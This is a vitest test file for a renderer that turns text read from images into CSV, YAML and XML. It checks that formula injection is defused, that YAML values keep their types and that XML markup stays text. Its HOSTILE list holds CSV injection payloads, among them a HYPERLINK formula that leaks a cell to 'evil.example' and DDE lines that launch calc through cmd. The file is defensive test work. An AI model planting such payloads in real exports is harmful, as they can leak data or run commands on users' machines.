/**
 * Injection in outputs (issue 12): text read from an image must not become a live formula
 * in a spreadsheet, a different type in a YAML 1.1 reader (PyYAML), or markup in XML.
 */
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { parsePattern, render, renderAs } from '../../src/patterns/index.js';
import { neutralizeFormula } from '../../src/patterns/render-csv.js';

const pattern = parsePattern(
  {
    name: 'Receipt',
    format: 'csv',
    instructions: 'x',
    json_schema: {
      type: 'object',
      properties: {
        vendor: { type: 'string' },
        note: { type: 'string' },
        total: { type: 'number' },
        items: { type: 'array', items: { type: 'object', properties: { name: { type: 'string' } } } },
      },
    },
  },
  'receipt.json',
);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function rows(csv: string): string[][] {
  // The renderer's quoting is RFC 4180; a tiny reader is enough for these cells.
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i] as string;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return out;
}

describe('CSV formula injection', () => {
  it.each(HOSTILE)('defuses %j in every cell position', (text) => {
    const csv = render(pattern, { vendor: text, note: 'ok', total: 1, items: [{ name: text }] });
    const [, first] = rows(csv);
    expect(first?.[0]).toBe(`'${text}`); // root column
    expect(first?.[3]).toBe(`'${text}`); // list item column
  });

  it('leaves numbers, numeric text and ordinary text alone', () => {
    const csv = render(pattern, { vendor: 'ACME', note: '-12.50', total: -5, items: [{ name: '+1' }] });
    expect(rows(csv)[1]).toEqual(['ACME', '-12.50', '-5', '+1']);
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(neutralizeFormula('')).toBe('');
    expect(neutralizeFormula('-')).toBe("'-");
  });

  it('keeps cells as they are when asked (opt-out)', () => {
    const csv = render(
      pattern,
      { vendor: HOSTILE[0], note: null, total: 1, items: [] },
      { csvFormulas: 'keep' },
    );
    expect(rows(csv)[1]?.[0]).toBe(HOSTILE[0]);
  });

  it('defuses hostile column names from a CSV pattern header too', () => {
    const headerPattern = parsePattern(
      { name: 'H', format: 'csv', instructions: 'x', csv_schema: 'name,=cmd' },
      'h.json',
    );
    const csv = render(headerPattern, { name: 'x', '=cmd': 'y' });
    expect(rows(csv)[0]).toEqual(['name', "'=cmd"]);
  });
});

describe('other formats read back as the same strings', () => {
  const value = { vendor: 'no', note: '<script>alert(1)</script>&amp;', total: 1, items: [{ name: 'yes' }] };

  it('YAML: a YAML 1.1 reader (PyYAML) sees strings, not booleans', () => {
    const yaml = renderAs('yaml', pattern, value);
    expect(parseYaml(yaml, { version: '1.1' })).toMatchObject({ vendor: 'no', items: [{ name: 'yes' }] });
  });

  it('XML: markup in values stays text', () => {
    const xml = renderAs('xml', pattern, value);
    expect(xml).not.toContain('<script>');
    const parsed = new XMLParser({
      processEntities: true,
      htmlEntities: false,
      ignoreDeclaration: true,
    }).parse(xml) as Record<string, Record<string, unknown>>;
    const root = Object.values(parsed)[0] as Record<string, unknown>;
    expect(root.note).toBe('<script>alert(1)</script>&amp;');
  });
});
